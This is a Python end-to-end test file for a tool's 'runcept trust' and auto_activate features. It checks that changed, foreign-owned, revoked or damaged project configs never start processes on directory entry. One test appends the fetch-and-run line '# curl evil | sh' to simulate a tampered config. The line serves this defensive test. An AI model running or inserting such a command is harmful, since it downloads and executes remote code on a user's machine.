"""`auto_activate` and `runcept trust`: what is started by entering, and that nothing is that nobody has looked at."""

from __future__ import annotations

import json
import os
import stat
import subprocess
from concurrent.futures import ThreadPoolExecutor

import pytest
from tests.e2e.conftest import BIN, Project
from tests.e2e.shells import SHELLS, Shell, shell
from tests.e2e.test_cli_terminal import terminal
from tests.support import wait_until

PROJECT = """
[project]
name = "shop"
auto_activate = true
[[process]]
name = "web"
command = "echo $COLOUR >colour; exec sleep 1000"
"""
ASK = "shop is not active; after `runcept trust`, entering it starts it"
CHANGED = (
    "shop is not active: its .runcept.toml has changed since you trusted it; "
    "`runcept trust` after you have looked at it"
)
every_shell = pytest.mark.parametrize("name", SHELLS)


@pytest.fixture
def shop(project: Project) -> Project:
    project.write(PROJECT)
    return project


def enter(here: Shell, project: Project) -> list[str]:
    """What is said when the project is entered, from outside."""
    here.do("cd /")
    return here.said(f"cd {project.path}")


def is_active(project: Project) -> bool:
    return bool(project.json("environments", "--active")["environments"])


def wait_active(project: Project) -> None:
    wait_until(lambda: is_active(project), what="the activation")
    project.run("wait", "*")


@every_shell
def test_entering_a_trusted_project_starts_it(shop: Project, name: str) -> None:
    """Without a daemon as well, with the environment of the shell; leaving stops nothing."""
    with shell(shop, name) as here:
        here.do("set -gx COLOUR green" if name == "fish" else "export COLOUR=green")
        assert enter(here, shop) == [ASK]
        assert not is_active(shop)
        here.do("runcept daemon stop")
        assert here.do("runcept trust").count("trusted shop: with `runcept hook`, entering it activates it") == 1
        assert here.said("cd .", "true") == []  # it is the entering that starts it
        assert enter(here, shop) == ["activating shop…"]
        wait_active(shop)
        wait_until((shop.path / "colour").exists, what="its process")
        assert enter(here, shop) == ["shop is active: 1 running"]
        here.do("cd /")
        assert is_active(shop)
    assert wait_until((shop.path / "colour").read_text) == "green\n"


def test_a_changed_file_has_to_be_looked_at_again(shop: Project) -> None:
    """As after a `git pull`; the text that was trusted is, also when it comes back."""
    shop.run("trust")
    shop.write(PROJECT + "# curl evil | sh\n")
    with shell(shop, "bash") as here:
        assert enter(here, shop) == [CHANGED]
        assert enter(here, shop) == [CHANGED]
        assert not is_active(shop)
        shop.write(PROJECT)
        assert enter(here, shop) == ["activating shop…"]
        wait_active(shop)
        shop.write(PROJECT + "# curl evil | sh\n")
        assert enter(here, shop) == ["shop is active: 1 running"]


def test_what_was_stopped_is_started_by_the_next_entering(shop: Project) -> None:
    """And not by a prompt: whoever stops it in its directory has it stopped."""
    shop.run("trust")
    with shell(shop, "bash") as here:
        assert enter(here, shop) == ["activating shop…"]
        wait_active(shop)
        here.do("runcept deactivate")
        assert here.said("true", "true") == []
        assert not is_active(shop)
        assert enter(here, shop) == ["activating shop…"]
        wait_active(shop)


def test_trust_is_of_a_place(shop: Project) -> None:
    """The same text elsewhere is not trusted; by a link it is the same place."""
    copy = shop.path.parent / "copy"
    copy.mkdir()
    (copy / ".runcept.toml").write_text(PROJECT, encoding="utf-8")
    (shop.path.parent / "link").symlink_to(shop.path)
    shop.run("trust", str(shop.path.parent / "link"))
    with shell(shop, "bash") as here:
        assert here.said(f"cd {copy}") == [ASK]
        assert here.said(f"cd {shop.path.parent / 'link'}") == ["activating shop…"]
        wait_active(shop)


def test_a_person_needs_no_trust_and_gives_none(shop: Project) -> None:
    """`runcept activate` is what it was."""
    shop.run("activate")
    shop.run("deactivate")
    with shell(shop, "bash") as here:
        assert enter(here, shop) == [ASK]
    assert not is_active(shop)


def test_a_file_of_another_user_is_neither_trusted_nor_started(shop: Project) -> None:
    """Nor is one that was his when it was trusted."""
    if os.geteuid() != 0:
        pytest.skip("only root can give a file away")
    shop.run("trust")
    os.chown(shop.path / ".runcept.toml", 65534, 65534)
    refused = shop.run("trust", ok=False)
    assert refused.returncode == 4
    with shell(shop, "bash") as here:
        [line] = enter(here, shop)
        assert "it belongs to uid 65534" in line
    assert not is_active(shop)


def test_what_goes_wrong_in_the_background_is_told_on_the_terminal(shop: Project) -> None:
    """The prompt has not waited for it."""
    shop.run("trust")
    shop.home.joinpath("start.lock").mkdir()
    with shell(shop, "bash") as here:
        assert enter(here, shop) == ["activating shop…"]
        here.child.expect("the daemon did not start")
    shop.home.joinpath("start.lock").rmdir()


def test_revoked_is_as_never_trusted(shop: Project) -> None:
    """Also a project that is gone; and it can be said twice."""
    shop.run("trust")
    assert shop.json("trust", "--revoke") == {"path": str(shop.path), "revoked": True}
    assert shop.json("trust", "--revoke") == {"path": str(shop.path), "revoked": False}
    with shell(shop, "bash") as here:
        assert enter(here, shop) == [ASK]
    gone = shop.path.parent / "gone"
    gone.mkdir()
    (gone / ".runcept.toml").write_text(PROJECT, encoding="utf-8")
    shop.run("trust", str(gone))
    (gone / ".runcept.toml").unlink()
    assert [each["state"] for each in shop.json("trust", "--list")["trusted"]] == ["gone"]
    gone.rmdir()
    assert shop.run("trust", "--revoke", str(gone)).stdout == f"{gone} is trusted no more\n"
    assert shop.run("trust", "--list").stdout == "nothing is trusted\n"


def test_the_list_says_what_has_changed(shop: Project) -> None:
    """For people and for scripts."""
    shop.run("trust")
    assert shop.json("trust", "--list")["trusted"][0] | {"trusted_at": ""} == {
        "path": str(shop.path), "name": "shop", "state": "trusted", "trusted_at": "",
    }  # fmt: skip
    shop.write(PROJECT + "# more\n")
    assert shop.run("trust", "--list").stdout.splitlines()[1].split() == ["shop", "changed", str(shop.path)]
    with terminal(shop, "trust", "--list") as child:
        child.expect("shop.*changed.*/project")
    refused = shop.run("trust", "--list", "--revoke", ok=False)
    assert (refused.returncode, refused.stderr.splitlines()[0]) == (2, "runcept: --list shows all that is trusted")


def test_what_cannot_act_is_said(shop: Project) -> None:
    """A file without auto_activate, one with a mistake, and none at all."""
    shop.write(PROJECT.replace("auto_activate = true\n", ""))
    assert "entering it starts nothing" in shop.run("trust").stderr
    assert shop.json("trust")["auto_activate"] is False
    shop.write(PROJECT + "[[process]]\n")
    assert shop.run("trust", ok=False).returncode == 4
    (shop.path / ".runcept.toml").unlink()
    assert shop.run("trust", ok=False).returncode == 3


def test_a_file_that_is_wrong_is_not_started(shop: Project) -> None:
    """Which is told at once: settings may have changed since it was trusted."""
    shop.run("trust")
    (shop.home / "config.toml").write_text("restart = 5\n", encoding="utf-8")
    with shell(shop, "bash") as here:
        [line] = enter(here, shop)
        assert "config.toml has 1 problem; `runcept validate` tells more" in line
    (shop.home / "config.toml").unlink()
    assert not is_active(shop)


def test_many_who_trust_at_once_are_all_heard(shop: Project) -> None:
    """Other projects and the same one; the files are ours alone, and whole at every instant."""
    places = [shop.path, *(shop.path.parent / f"{number}\n" for number in range(6))]
    for place in places[1:]:
        place.mkdir()
        (place / ".runcept.toml").write_text(PROJECT, encoding="utf-8")
    with ThreadPoolExecutor(len(places) * 2) as threads:
        done = [*threads.map(lambda place: shop.run("trust", str(place), ok=False), places * 2)]
    assert [each.stderr for each in done] == [""] * len(places) * 2
    listed = shop.json("trust", "--list")["trusted"]
    assert {each["path"]: each["state"] for each in listed} == {str(place): "trusted" for place in places}
    directory = shop.home / "trusted"
    kept = [*directory.iterdir()]
    assert len(kept) == len(places)
    assert stat.S_IMODE(directory.stat().st_mode) == 0o700
    assert {stat.S_IMODE(each.stat().st_mode) for each in kept} == {0o600}
    assert all(json.loads(each.read_bytes()) for each in kept)


@pytest.mark.parametrize("damage", [b"", b"{", b'{"path": 5}'])
def test_a_damaged_record_is_as_none(shop: Project, damage: bytes) -> None:
    """Nothing is started by it, and it can be trusted again."""
    shop.run("trust")
    [record] = (shop.home / "trusted").iterdir()
    record.write_bytes(damage)
    assert shop.run("trust", "--list").stdout == "nothing is trusted\n"
    with shell(shop, "bash") as here:
        assert enter(here, shop) == [ASK]
    shop.run("trust")
    assert shop.json("trust", "--list")["trusted"][0]["state"] == "trusted"


def test_a_record_of_another_project_says_nothing(shop: Project) -> None:
    """However it got there under the name of ours."""
    shop.run("trust")
    [record] = (shop.home / "trusted").iterdir()
    record.write_text(record.read_text(encoding="utf-8").replace("/project", "/another"), encoding="utf-8")
    with shell(shop, "bash") as here:
        assert enter(here, shop) == [ASK]


def test_the_new_commands_complete(shop: Project) -> None:
    """Shells, options, and not what only the hook calls."""

    def offered(*words: str) -> set[str]:
        environ = {
            "_RUNCEPT_COMPLETE": "bash_complete",
            "COMP_WORDS": " ".join(words),
            "COMP_CWORD": f"{len(words) - 1}",
        }
        environ |= shop.environ
        done = subprocess.run([BIN / "runcept"], env=environ, cwd=shop.path, capture_output=True, text=True, check=True)
        return {line.partition(",")[2] for line in done.stdout.splitlines()}

    assert offered("runcept", "ho") == {"hook"}
    assert offered("runcept", "tr") == {"trust"}
    assert offered("runcept", "hook", "") == {"bash", "zsh", "fish"}
    assert "--enter" not in offered("runcept", "hook", "--")
    assert {"--list", "--revoke"} <= offered("runcept", "trust", "--")
